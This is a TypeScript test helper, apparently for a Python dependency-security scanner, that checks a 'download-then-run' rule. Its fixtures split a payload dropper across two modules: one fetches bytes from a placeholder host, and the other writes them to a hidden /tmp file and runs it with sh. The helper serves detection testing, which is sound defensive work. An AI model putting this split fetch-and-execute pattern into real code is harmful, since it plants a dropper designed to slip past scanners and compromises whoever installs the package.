import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { analyseArchive } from '../../../src/analysis/analyse-archive.js';
import { parsePackageName } from '../../../src/core/name.js';
import { loadPythonParser } from '../../../src/python/parser.js';
import * as rules from '../../../src/rules/registry.js';

const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });

/** A module that fetches, and one that starts what it is given: two halves of one behaviour. */
export const FETCHES = 'import urllib.request\n\n\ndef fetch():\n    return urllib.request.urlopen("https://example.invalid/part").read()\n';
export const STARTS = 'import subprocess\n\n\ndef launch(data):\n    with open("/tmp/.part", "wb") as stream:\n        stream.write(data)\n    subprocess.Popen(["sh", "/tmp/.part"])\n';

/** What one rule finds in a project of these files: how severe, and where. */
export async function foundIn(files: Readonly<Record<string, string>>, wanted = 'download-then-run'): Promise<readonly string[]> {
  const folder = mkdtempSync(join(tmpdir(), 'depsec-linked-'));
  try {
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
    const { findings } = await analyseArchive(folder, { rules, loadParser: () => parser }, { name: parsePackageName('plot'), version: '1.0' });
    return findings.filter(({ rule }) => rule === wanted).map(({ severity, file }) => `${severity} ${file}`);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}
